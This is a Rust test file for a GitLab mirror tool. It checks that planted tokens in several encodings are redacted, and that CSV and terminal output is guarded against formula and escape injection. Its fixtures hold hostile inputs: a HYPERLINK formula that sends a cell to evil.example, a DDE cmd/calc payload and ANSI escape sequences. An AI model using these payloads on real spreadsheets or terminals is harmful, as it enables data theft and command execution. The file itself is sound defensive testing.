//! Hostile input in, clean output out (issue 14): secrets planted in GitLab's text in several
//! encodings, formula and escape cells, oversized cells and bodies, one broken project, long
//! waits, credential scope by port, `--map` mistakes and URL rules for odd hosts.

use base64::Engine as _;
use glmirror::sim::Fixture;

use crate::util::{CANARY, Env, text};

/// Every form of `secret` that must never reach an output: raw, fully percent-encoded (both
/// hex cases), and base64 of the two `Authorization: Basic` shapes (`user:token`, `token:`),
/// in the standard and URL-safe alphabets.
fn forms(secret: &str) -> Vec<String> {
    let upper: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
    let lower: String = secret.bytes().map(|b| format!("%{b:02x}")).collect();
    let mut out = vec![secret.to_owned(), upper, lower];
    for pair in [format!("x-access-token:{secret}"), format!("{secret}:")] {
        out.push(base64::engine::general_purpose::STANDARD.encode(&pair));
        out.push(base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&pair));
    }
    out
}

/// Assert that no form of any secret appears in `haystack`.
fn assert_clean(what: &str, haystack: &str, secrets: &[&str]) {
    for secret in secrets {
        for form in forms(secret) {
            assert!(
                !haystack.contains(&form),
                "{what} holds a form of a secret ({form}):\n{haystack}"
            );
        }
    }
}

/// GitLab error text that carries `secret` in the five shapes the issue found: bare, in a
/// `Basic` header, in a JSON-escaped URL, in a userinfo with a quote, and percent-encoded.
fn hostile_errors(secret: &str) -> [String; 5] {
    let basic =
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{secret}"));
    let percent: String = secret.bytes().map(|b| format!("%{b:02X}")).collect();
    [
        format!("13:fetch remote: \"remote: Invalid token {secret} for user\": exit status 128."),
        format!("fatal: unable to access: sent Authorization: Basic {basic} and got 401"),
        format!("{{\"url\":\"https:\\/\\/x:{secret}@github.com\\/acme\\/api.git\"}} 403"),
        format!("fatal: unable to access 'https://us'er:{secret}@github.com/acme/api.git/': 403"),
        format!("error: 403 for https://github.com/acme/api.git?token={percent}"),
    ]
}

#[test]
fn planted_tokens_in_five_encodings_reach_no_output() {
    let admin = "glsim-demo-admin-0000000000000000000001";
    let env = Env::with(|o| {
        let mut fixture = Fixture::demo();
        let errors = [hostile_errors(CANARY), hostile_errors(admin)].concat();
        let mut planted = 0;
        for p in fixture.projects.iter_mut() {
            if let Some(pull) = p.pull.as_mut().filter(|m| m.mirror)
                && planted < errors.len()
            {
                pull.update_status = "failed".into();
                pull.last_error = Some(errors[planted].clone());
                planted += 1;
            }
            for m in p.remote_mirrors.iter_mut() {
                m.update_status = "failed".into();
                m.last_error = Some(errors[planted % errors.len()].clone());
            }
        }
        assert_eq!(planted, errors.len(), "enough pull mirrors to plant every error");
        o.fixture = fixture;
    });
    let secrets = [CANARY, admin];
    let plan = env.cmd(&["plan", "--source-host", "github.com", "--out", "plan.csv"]).output();
    let plan = plan.expect("plan runs");
    assert_eq!(plan.status.code(), Some(0), "{}", text(&plan));
    assert_clean("plan's stderr", &text(&plan), &secrets);
    let csv = std::fs::read_to_string(env.path("plan.csv")).expect("plan written");
    assert!(csv.contains("Invalid token ***** for user"), "the rest of the text stays:\n{csv}");
    assert_clean("plan.csv", &csv, &secrets);
    for format in ["csv", "json", "table"] {
        let status = env.cmd(&["status", "--format", format, "-vv"]).output().expect("status");
        assert_clean(&format!("status --format {format}"), &text(&status), &secrets);
    }
    let apply = env
        .cmd(&["apply", "plan.csv", "--source-host", "github.com", "--yes", "-vv"])
        .output()
        .expect("apply runs");
    assert_clean("apply's output", &text(&apply), &secrets);
    for file in ["plan.report.csv", "plan.journal"] {
        let body = std::fs::read_to_string(env.path(file)).unwrap_or_default();
        assert!(!body.is_empty(), "{file} written");
        assert_clean(file, &body, &secrets);
    }
}

/// A spreadsheet runs a cell that starts with one of these as a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV text: none starts a formula, none holds a control character.
fn assert_cells_safe(what: &str, csv_text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.expect("valid CSV").iter() {
            cells += 1;
            assert!(!is_formula(cell), "{what}: formula cell {cell:?}");
            assert!(!cell.chars().any(char::is_control), "{what}: control character in {cell:?}");
        }
    }
    assert!(cells > 0, "{what} has cells");
}

/// A fixture whose mirrors' errors are formulas and terminal escapes, and one project whose
/// path holds an escape sequence.
fn formula_env() -> Env {
    Env::with(|o| {
        let mut fixture = Fixture::demo();
        let evil = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1\u{1b}]0;pwned\u{7} and \u{1b}[2J cleared",
            "-2\tsplit\r\ncells",
        ];
        let mut i = 0;
        for p in fixture.projects.iter_mut() {
            if let Some(pull) = p.pull.as_mut().filter(|m| m.mirror) {
                pull.update_status = "failed".into();
                pull.last_error = Some(evil[i % evil.len()].into());
                i += 1;
            }
        }
        fixture.projects[0].path = "api\u{1b}[31m-gateway".into();
        o.fixture = fixture;
    })
}

#[test]
fn status_csv_and_plan_cells_are_formula_guarded_and_escape_free() {
    let env = formula_env();
    let status = env.run(&["status", "--format", "csv"]);
    assert_eq!(status.status.code(), Some(3), "{}", text(&status));
    let csv_text = String::from_utf8(status.stdout.clone()).expect("utf-8");
    assert!(csv_text.contains("'=HYPERLINK"), "the text stays, guarded:\n{csv_text}");
    assert_cells_safe("status --format csv", &csv_text);
    let table = env.run(&["status"]);
    assert!(!String::from_utf8_lossy(&table.stdout).contains('\u{1b}'), "{}", text(&table));
    let json = env.run(&["status", "--format", "json"]);
    let json_text = String::from_utf8_lossy(&json.stdout);
    assert!(!json_text.contains("\\u001b"), "json holds no escapes: {json_text}");

    let plan = env.run(&["plan", "--source-host", "github.com", "--out", "plan.csv"]);
    assert_eq!(plan.status.code(), Some(0), "{}", text(&plan));
    assert!(!String::from_utf8_lossy(&plan.stderr).contains('\u{1b}'), "{}", text(&plan));
    let plan_text = std::fs::read_to_string(env.path("plan.csv")).expect("plan");
    assert_cells_safe("plan.csv", &plan_text);
    // The plan still applies (its cells were cleaned before they were sealed).
    let apply = env.run(&["apply", "plan.csv", "--source-host", "github.com", "--yes"]);
    assert_eq!(apply.status.code(), Some(0), "{}", text(&apply));
    let report = std::fs::read_to_string(env.path("plan.report.csv")).expect("report");
    assert_cells_safe("plan.report.csv", &report);
}
